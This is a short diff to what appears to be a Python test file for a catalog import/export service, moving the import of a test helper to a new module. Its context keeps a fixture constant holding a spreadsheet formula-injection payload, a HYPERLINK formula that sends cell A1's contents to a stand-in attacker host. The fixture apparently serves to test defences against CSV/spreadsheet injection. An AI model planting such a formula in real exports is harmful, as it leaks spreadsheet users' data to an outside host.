@@ -12,7 +12,7 @@ import uuid
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from catalog_service import importer
-from tests.catalog.test_import_export import rich_item
+from tests.catalog.support import rich_item
 
 HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"点击查看办理指南")'
 
